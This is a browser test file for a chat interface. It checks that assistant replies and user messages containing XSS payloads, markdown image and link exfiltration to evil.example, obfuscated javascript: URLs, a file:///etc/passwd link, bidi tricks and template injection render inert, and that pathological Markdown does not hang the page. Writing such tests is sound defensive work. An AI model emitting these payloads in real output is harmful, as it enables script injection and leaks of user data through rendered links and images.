import { afterAll, beforeAll, expect, test } from 'vitest';
import { launchBrowser } from '../support/browser.ts';
import { type Chat, openChat } from '../support/open-chat.ts';
import { type PageServer, startPageServer } from '../support/page-server.ts';

let server: PageServer;
let browser: Awaited<ReturnType<typeof launchBrowser>>;
let reply = '';
beforeAll(async () => {
  [server, browser] = await Promise.all([
    startPageServer({
      chat({ send, done }) {
        send(
          { type: 'text-delta', id: 'a', delta: reply },
          { type: 'data-rows', data: { messages: [{ role: 'assistant', content: reply, seal: 's' }] } },
        );
        done();
      },
    }),
    launchBrowser(),
  ]);
});
afterAll(async () => {
  await browser.close();
  await server.close();
});

/** Replies that try to run, to load, to leave or to mislead. */
const attacks: readonly string[] = [
  '<img src=x onerror=alert(1)>',
  "<script>fetch('//evil.example')</script>",
  '<svg onload=alert(1)><circle r=9></svg>',
  "<iframe srcdoc='<script>parent.x=1</script>'></iframe>",
  '<object data="https://evil.example/x"></object><embed src="https://evil.example/y">',
  '<form action="https://evil.example"><button>Go</button></form>',
  '<style>body{background:url(https://evil.example/?d=71)}</style>',
  '<link rel=stylesheet href=https://evil.example/x.css><base href=https://evil.example/>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<video src=https://evil.example/v autoplay></video><audio src=//evil.example/a></audio>',
  '<a href="https://school.example@evil.example">school</a>',
  '<a id="root" name="config">x</a><form name="fetch">',
  '[click me](javascript:alert(1))',
  '[click me](JaVaScRiPt:alert(1))',
  '[click me](java&#x0A;script:alert(1))',
  '[click me](java\tscript:alert(1))',
  '[click me](vbscript:x) [data](data:text/html,<script>alert(1)</script>) [file](file:///etc/passwd)',
  '[relative](/api/session) [fragment](#x) [scheme](//evil.example)',
  '![p](https://evil.example/p.png?d=Alice-71)',
  '![p][1]\n\n[1]: https://evil.example/p.png?d=Alice-71',
  '[![p](https://evil.example/p.png)](https://evil.example/)',
  '<picture><source srcset="https://evil.example/a.png"><img src="https://evil.example/b.png"></picture>',
  '[see your report](https://evil.example/?d=Alice-71)',
  '[your school](https://school.example@evil.example/)',
  'https://evil.example/auto www.evil.example mail@evil.example',
  '```html\n<img src=x onerror=alert(1)>\n```',
  '`<img src=x onerror=alert(1)>`',
  '$\\href{javascript:alert(1)}{x}$ \\includegraphics{https://evil.example/x}',
  '[^1]\n\n[^1]: <img src=https://evil.example/f.png> ![x](https://evil.example/g.png)',
  '| a | b |\n|---|---|\n| ![p](https://evil.example/t.png) | <img src=https://evil.example/u.png> |',
  '\u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007',
  '\u202Egnp.elif\u202C and \u2066isolated\u2069',
  '{{constructor.constructor("alert(1)")()}}',
];

const heavy: readonly [string, string][] = [
  ['brackets', '['.repeat(5000)],
  ['images', '![](a'.repeat(3000)],
  ['stars', '*a'.repeat(5000)],
  ['quotes', '>'.repeat(1400)],
  ['nested lists', Array.from({ length: 300 }, (_, depth) => `${' '.repeat(depth * 2)}- a`).join('\n')],
  ['a table row', `${'|a'.repeat(700)}\n${'|-'.repeat(700)}`],
];

async function openWatched(): Promise<{ chat: Chat; foreign: string[] }> {
  const chat = await openChat(browser, server.url);
  const foreign: string[] = [];
  chat.page.on('request', (request) => {
    if (new URL(request.url()).origin !== new URL(server.url).origin) foreign.push(request.url());
  });
  chat.page.on('dialog', (dialog) => {
    foreign.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  return { chat, foreign };
}

/** Everything in the log that could run, load or leave. */
function findDangers(chat: Chat): Promise<string[]> {
  return chat.log.evaluate((log) => {
    const dangers: string[] = [];
    for (const element of log.querySelectorAll('*')) {
      const name = element.tagName.toLowerCase();
      const own = element.closest('button, .composer, svg.icon, .edit-form') !== null;
      if (/^(script|iframe|object|embed|style|link|base|meta|video|audio|picture|source|img)$/.test(name)) {
        dangers.push(element.outerHTML);
      }
      if (!own && /^(form|svg|input|button)$/.test(name) && element.closest('.markdown')) {
        dangers.push(element.outerHTML);
      }
      for (const attribute of element.attributes) {
        if (attribute.name.startsWith('on') || attribute.name === 'style' || attribute.name === 'srcset') {
          dangers.push(element.outerHTML);
        }
      }
      if (element instanceof HTMLAnchorElement) {
        const safe =
          /^(https?|mailto):/.test(element.href) &&
          element.target === '_blank' &&
          element.rel === 'noopener noreferrer' &&
          !element.href.includes('school.example');
        const where = element.href.startsWith('mailto:') ? '' : new URL(element.href).host;
        if (!safe || !element.parentElement?.textContent?.includes(`(${where}`))
          dangers.push(element.outerHTML);
      }
    }
    return dangers;
  });
}

test('no attack in an answer runs, loads, leaves or hides where a link leads', async () => {
  const { chat, foreign } = await openWatched();
  for (const attack of attacks) {
    reply = attack;
    await chat.page.getByRole('button', { name: 'New chat' }).click();
    await chat.log.getByText('hi', { exact: true }).waitFor({ state: 'detached' });
    await chat.ask('hi');
    await chat.idle();
    expect(await findDangers(chat), attack).toEqual([]);
    await chat.log.getByRole('button', { name: 'Copy' }).waitFor();
  }
  expect(foreign).toEqual([]);
  expect(chat.complaints).toEqual([]);
  expect(await chat.page.title()).toBe('Handrail');
  await chat.close();
});

test('attacks in the reader’s own message are plain text', async () => {
  const { chat, foreign } = await openWatched();
  reply = 'ok';
  const text = '<img src=x onerror=alert(document.domain)> ![p](https://evil.example/p.png)';
  await chat.ask(text);
  await chat.idle();
  await chat.log.getByText(text).waitFor();
  expect(await findDangers(chat)).toEqual([]);
  expect(foreign).toEqual([]);
  await chat.close();
});

test.each(heavy)('%s by the thousand do not hang the page', async (_name, text) => {
  const { chat } = await openWatched();
  reply = text;
  const started = Date.now();
  await chat.ask('hi');
  await chat.log.getByRole('button', { name: 'Copy' }).waitFor();
  await chat.message.fill('still here');
  expect(Date.now() - started).toBeLessThan(8000);
  await chat.close();
});

test('Markdown is shown as what it means', async () => {
  const { chat } = await openWatched();
  reply =
    '# Title\n\n**bold** and `code`\n\n- one\n- two\n\n| a | b |\n|:--|--:|\n| 1 | 2 |\n\n[docs](https://example.org/x)';
  await chat.ask('hi');
  await chat.idle();
  await chat.log.getByRole('heading', { name: 'Title' }).waitFor();
  await chat.log.getByRole('listitem').filter({ hasText: 'two' }).first().waitFor();
  await chat.log.getByRole('cell', { name: '2' }).waitFor();
  expect(await chat.log.getByRole('link', { name: 'docs' }).getAttribute('href')).toBe(
    'https://example.org/x',
  );
  await chat.log.getByText('(example.org)').waitFor();
  await chat.close();
});
